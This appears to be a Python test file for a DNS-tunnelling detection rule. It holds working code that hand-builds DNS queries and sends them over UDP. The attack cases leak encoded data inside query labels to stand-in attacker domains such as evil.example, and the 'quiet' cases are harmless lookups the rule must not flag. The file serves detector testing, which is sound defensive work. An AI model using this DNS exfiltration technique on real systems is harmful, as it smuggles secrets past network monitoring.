# SPDX-License-Identifier: Apache-2.0
"""Data leaves in the names that are asked for."""
from cases import Rule

rule = Rule("function.dns_tunnel", severity="high")

ASK = """
import base64, os, socket, struct
def ask(name, kind=1):
    labels = b''.join(bytes([len(label)]) + label.encode() for label in name.split('.'))
    query = os.urandom(2) + b'\\x01\\x00' + struct.pack('>HHHH', 1, 0, 0, 0) + labels + b'\\0' + struct.pack('>HH', kind, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(query, ('10.66.0.9', 53))
"""


@rule.attack("base32 labels")
def _(case):
    function = case.bare()
    case.act()
    function.python(ASK + "for _ in range(20):\n    ask(base64.b32encode(os.urandom(25)).decode().lower() + '.t.evil.example')")


@rule.attack("hexadecimal labels, asked for as TXT")
def _(case):
    function = case.bare()
    case.act()
    function.python(ASK + "for _ in range(20):\n    ask(os.urandom(20).hex() + '.evil.co.uk', 16)")


@rule.attack("words, but many bytes")
def _(case):
    function = case.bare()
    case.act()
    function.python(ASK + "for i in range(40):\n    ask('.'.join(['secretdataword' * 3 + str(i), 'moreofthesame' * 3]) + '.evil.example')")


@rule.quiet("a search list")
def _(case):
    case.bare().python(ASK + "for host in range(20):\n    for end in ('.default.svc.cluster.local', '.svc.cluster.local', '.cluster.local', ''):\n"
                             "        ask(f'api-{host}.shop.example' + end)")


@rule.quiet("reverse look-ups and services")
def _(case):
    case.bare().python(ASK + "for i in range(40):\n    ask(f'{i}.2.0.10.in-addr.arpa', 12)\n    ask(f'_service{i}._tcp.shop.example', 33)")
